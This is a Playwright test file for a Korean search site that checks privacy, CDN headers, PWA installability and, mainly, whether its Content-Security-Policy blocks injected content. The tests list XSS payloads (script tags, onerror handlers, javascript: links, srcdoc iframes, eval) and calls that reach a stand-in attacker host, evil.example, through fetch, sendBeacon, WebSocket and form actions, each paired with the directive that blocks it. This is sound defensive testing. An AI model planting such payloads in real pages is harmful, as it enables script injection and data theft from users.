import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { withoutPolicy } from '../attacks/inject.ts';
import { gatherFaults } from '../support/gather-faults.ts';
import { fixture } from '../support/read-dist.ts';
import { openTrial, type Trial } from '../support/trial.ts';

test('a visit is refused nothing, from the first letter typed to a picture seen large', async ({
  page,
  context,
  baseURL,
}) => {
  const faults = gatherFaults(page, new URL(baseURL!));
  await page.goto('./');
  const field = page.getByRole('main').getByRole('combobox');
  await field.pressSequentially('람다');
  await expect(page.getByRole('option').first()).toBeVisible();
  await field.press('Enter');
  const status = page.getByRole('status').first();
  await expect(status).toContainText('‘람다’');
  for (const query of ['이루리', '"패킷 손실"', 'ㅅㅂㄹㅅ', 'fkaek', 'zxqv', 'Saga 패턴']) {
    await page.getByRole('searchbox').fill(query);
    await expect(status).toContainText(query.replaceAll('"', ''));
  }
  expect((await context.storageState()).cookies).toEqual([]);
  await page.getByRole('list', { name: '검색 결과' }).getByRole('link').first().click();
  await expect(page.locator('mark.arrival').first()).toBeAttached();
  await page
    .getByRole('button', { name: /^크게 보기/ })
    .first()
    .click();
  await page.getByRole('dialog').getByRole('button', { name: '다음' }).click();
  await expect(page.getByRole('dialog')).toContainText('2 / ');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: '화면 밝기: 시스템' }).click();
  await page.getByRole('button', { name: '화면 밝기: 밝게' }).click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  expect(faults).toEqual([]);
});

test('nothing but visited pages is kept before the reader chooses something', async ({
  page,
  context,
}) => {
  for (const address of ['./', './events/', './about/']) await page.goto(address);
  await page.goto('./search/?q=Saga');
  await expect(
    page.getByRole('list', { name: '검색 결과' }).getByRole('link').first(),
  ).toBeVisible();
  const kept = await page.evaluate(async () => ({
    session: sessionStorage.length,
    databases: (await indexedDB.databases()).length,
  }));
  expect(kept).toEqual({ session: 0, databases: 0 });
  expect(await context.storageState()).toEqual({ cookies: [], origins: [] });
});

test('the headers that README.md lends a CDN break nothing', async ({ page, baseURL }) => {
  const faults = gatherFaults(page, new URL(baseURL!));
  const [, list = ''] = /```http\n([\s\S]+?)```/.exec(readFileSync('README.md', 'utf8')) ?? [];
  const added = Object.fromEntries(
    list
      .trim()
      .split('\n')
      .map((line) => [line.replace(/:.*/, ''), line.replace(/^[^:]*: /, '')]),
  );
  expect(Object.keys(added)).toContain('Content-Security-Policy');
  await page.context().route('**', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), ...added } });
  });
  await page.goto('./search/?q=Saga');
  await expect(
    page.getByRole('list', { name: '검색 결과' }).getByRole('link').first(),
  ).toBeVisible();
  // Facets may still be on their way.
  await page.context().unrouteAll({ behavior: 'ignoreErrors' });
  expect(faults).toEqual([]);
});

/** Markup that runs something or asks for something, and the directive that stops it. */
const markup: Readonly<Record<string, string>> = {
  '<script>__pwn()</script>': 'script-src-elem',
  '<script src="https://evil.example/script.js"></script>': 'script-src-elem',
  '<img src="x" onerror="__pwn()">': 'script-src-attr',
  '<a href="javascript:__pwn()">x</a>': 'script-src-elem',
  '<iframe srcdoc="<script>parent.__pwn()</script>"></iframe>': 'script-src-elem',
  '<iframe src="https://evil.example/frame"></iframe>': 'frame-src',
  '<object data="https://evil.example/object"></object>': 'object-src',
  '<img src="https://evil.example/pixel.gif">': 'img-src',
  '<video src="https://evil.example/video.mp4"></video>': 'media-src',
  '<link rel="stylesheet" href="https://evil.example/linked.css">': 'style-src-elem',
  '<style>@import "https://evil.example/imported.css"</style>': 'style-src-elem',
  '<p style="background: url(https://evil.example/background)">x</p>': 'style-src-attr',
  '<form action="https://evil.example/form"><button>x</button></form>': 'form-action',
  '<a href="#x" ping="https://evil.example/ping">x</a>': 'connect-src',
  '<base href="https://evil.example/"><img src="/base.png">': 'base-uri',
};

/** The same for what a script would do that found its way in. */
const calls: Readonly<Record<string, string>> = {
  "eval('__pwn()')": 'require-trusted-types-for',
  "setTimeout('__pwn()')": 'require-trusted-types-for',
  "document.body.innerHTML = '<img src=x onerror=__pwn()>'": 'require-trusted-types-for',
  "new Worker('data:text/javascript,0'); __pwn()": 'require-trusted-types-for',
  "new Worker(URL.createObjectURL(new Blob(['0']))); __pwn()": 'require-trusted-types-for',
  "trustedTypes.createPolicy('default', {}); __pwn()": 'trusted-types',
  "trustedTypes.createPolicy('other', {}); __pwn()": 'trusted-types',
  "import('data:text/javascript,__pwn()')": 'script-src-elem',
  "fetch('https://evil.example/fetch')": 'connect-src',
  // Another project of the same owner: the origin is the same, the path is not.
  "fetch('/other-project/').then(() => __pwn())": 'connect-src',
  "navigator.sendBeacon('https://evil.example/beacon')": 'connect-src',
  "new WebSocket('wss://evil.example/socket')": 'connect-src',
};

test.describe('what is put into a page', () => {
  const home = readFileSync(join(fixture.dir, 'index.html'), 'utf8');
  let trial: Trial;
  test.beforeAll(async ({ browser }) => {
    trial = await openTrial(browser, fixture.dir);
  });
  test.afterAll(() => trial.close());

  /** What becomes of markup in a page: it ran, it reached another site, or a directive stopped it. */
  async function put(page: string) {
    const texts = Object.keys(markup);
    const outcomes = await trial.open(
      texts.map((text) => ({ html: page.replace('</main>', () => `${text}</main>`) })),
    );
    const asked = trial.takeForeign().map((address) => new URL(address).pathname);
    return texts.map((text, index): [string, string] => {
      const { hasRun, violations } = outcomes[index]!;
      const hasLeft = asked.some((path) => path.length > 1 && text.includes(path));
      const stopper = violations.find((directive) => directive === markup[text]);
      return [text, hasRun || hasLeft ? 'got through' : (stopper ?? violations.join())];
    });
  }

  /** The same for calls. */
  async function call(page: string) {
    const visited = await trial.visit(page);
    const results: [string, string][] = [];
    for (const text of Object.keys(calls)) {
      // Later, as what is evaluated for a test is free of the policy.
      await visited.evaluate(`__hit = 0; __refused.clear(); setTimeout(() => { ${text} })`);
      let result = '';
      await expect(async () => {
        const [hit, refused] =
          await visited.evaluate<[number, string[]]>('[__hit, [...__refused]]');
        result = hit === 1 || trial.takeForeign().length > 0 ? 'got through' : refused.join();
        expect(result).not.toBe('');
      }).toPass();
      results.push([text, result]);
    }
    await visited.close();
    return results;
  }

  test('is stopped by the rule that is meant for it', async () => {
    // A form is stopped outside the page, which hears of it when it hears of it.
    await expect(async () => expect(Object.fromEntries(await put(home))).toEqual(markup)).toPass({
      timeout: 20_000,
    });
    expect(Object.fromEntries(await call(home))).toEqual(calls);
  });

  test('would get through without the policy', async () => {
    const open = withoutPolicy(home);
    const results = [...(await put(open)), ...(await call(open))];
    expect(results.filter(([, result]) => result !== 'got through')).toEqual([]);
  });
});

test('a home screen takes the site in: its manifest and icons are let through, and keep to its path', async ({
  page,
  context,
}) => {
  await page.goto('./');
  const session = await context.newCDPSession(page);
  const { errors, data = '' } = await session.send('Page.getAppManifest');
  expect(errors).toEqual([]);
  expect((JSON.parse(data) as { scope: string }).scope).toBe(new URL(page.url()).pathname);
  const { installabilityErrors } = await session.send('Page.getInstallabilityErrors');
  expect(installabilityErrors).toEqual([]);
});
